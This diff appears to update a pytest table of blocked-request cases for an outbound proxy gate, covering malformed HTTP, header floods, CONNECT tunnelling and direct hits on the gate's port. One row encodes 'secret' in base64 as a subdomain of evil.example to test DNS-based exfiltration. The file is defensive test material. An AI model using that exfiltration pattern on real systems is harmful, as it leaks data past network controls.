@@ -12,6 +12,7 @@ import pytest
 import patience
 from carrel import BUILD
 from conftest import Gated
+from kinds import PROXY
 from tally import attack, counts
 
 
@@ -92,9 +93,9 @@ ROWS = [
     Row("a bare LF", "say(dial('ok.test', {http}, b'GET / HTTP/1.1\\nHost: ok.test\\n\\n'))", " 400 ", "ok.test", HTTP, "a line of the HTTP message ends without CR LF"),
     Row("a header flood", "say(get('ok.test', {http}, more='X: y\\r\\n' * 5000))", " 431 ", "ok.test", HTTP, "too many header fields"),
     Row("the HTTP/2 preface", "say(dial('ok.test', {http}, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'))", " 505 ", "ok.test", HTTP, "only HTTP/1.0 and HTTP/1.1 are supported"),
-    Row("the gate's own port", "say(dial('127.0.0.1', 3129, b'GET / HTTP/1.1\\r\\n\\r\\n'))", "reset", "127.0.0.1", 3129, "the destination is the gate itself"),
-    Row("another host through the proxy", "say(dial('127.0.0.1', 3128, b'GET http://other.test:{http}/ HTTP/1.1\\r\\nHost: other.test:{http}\\r\\nConnection: close\\r\\n\\r\\n'))", " 403 ", "other.test", HTTP, NO_RULE),
-    Row("another host by CONNECT", "say(dial('127.0.0.1', 3128, b'CONNECT other.test:{http} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: other.test:{http}\\r\\n\\r\\n').split('HTTP/1.1')[-1])", " 403 ",
+    Row("the gate's own port", f"say(dial('{PROXY}', 3129, b'GET / HTTP/1.1\\r\\n\\r\\n'))", "reset", PROXY, 3129, "the destination is the gate itself"),
+    Row("another host through the proxy", f"say(dial('{PROXY}', 3128, b'GET http://other.test:{{http}}/ HTTP/1.1\\r\\nHost: other.test:{{http}}\\r\\nConnection: close\\r\\n\\r\\n'))", " 403 ", "other.test", HTTP, NO_RULE),
+    Row("another host by CONNECT", f"say(dial('{PROXY}', 3128, b'CONNECT other.test:{{http}} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: other.test:{{http}}\\r\\n\\r\\n').split('HTTP/1.1')[-1])", " 403 ",
         "other.test", HTTP, NO_RULE),
     Row("data hidden in a name", "say(socket.gethostbyname('c2VjcmV0.evil.example') + get('c2VjcmV0.evil.example', 80))", " 403 ", "c2vjcmv0.evil.example", 80, NO_RULE),
 ]
